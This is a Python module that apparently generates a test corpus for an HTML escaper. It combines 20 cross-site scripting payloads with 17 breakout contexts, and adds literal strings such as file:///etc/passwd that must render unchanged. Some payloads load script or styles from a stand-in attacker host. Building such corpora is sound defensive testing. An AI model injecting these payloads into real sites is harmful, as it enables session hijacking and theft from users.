"""Texts meant to be more than text: a corpus made by crossing payloads with the places they break out of."""

from __future__ import annotations

DEED = "window.wasRun=1"

OUTER = [
    "{}", '"{}', "'{}", '">{}', "'>{}", "`{}", "</p>{}", "</span>{}", "</script>{}", "</textarea>{}", "]]>{}",
    "--><!--{}", "\n{}", "${{{}}}", "{{{{{}}}}}", "&lt;{}", '\\"{}',
]  # fmt: skip

PAYLOADS = [
    f"<script>{DEED}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={DEED}>",
    f"<img src=/page/icon.svg onload={DEED}>",
    f"<svg onload={DEED}>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f"<svg><script>{DEED}</script></svg>",
    f"<iframe srcdoc='<script>parent.{DEED}</script>'>",
    f"<iframe src=javascript:{DEED}>",
    f"<a href=javascript:{DEED}>lomake</a>",
    f"<form action=javascript:{DEED}><button>x</button></form>",
    f"<input autofocus onfocus={DEED}>",
    f"<details open ontoggle={DEED}>x</details>",
    f"<video><source onerror={DEED}></video>",
    f"<math><mi xlink:href=javascript:{DEED}>x</mi></math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{display:none}}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<object data=javascript:{DEED}></object>",
]

LITERAL = [
    r'<img src="\\host\s">', "file:///etc/passwd", "javascript:alert(1)",
    "data:text/html,<script>1</script>", "{{7*7}}", "<%= 7 %>", "5 < 6 & 7 > 2", "<3 kiitos",
    "tulot <1000> euroa", "&amp; &lt;b&gt;", "a\tb", "a\n\nb",
]  # fmt: skip


def corpus() -> list[str]:
    """340 crossed payloads and a dozen that must simply read as they were written."""
    return [outer.format(payload) for payload in PAYLOADS for outer in OUTER] + LITERAL
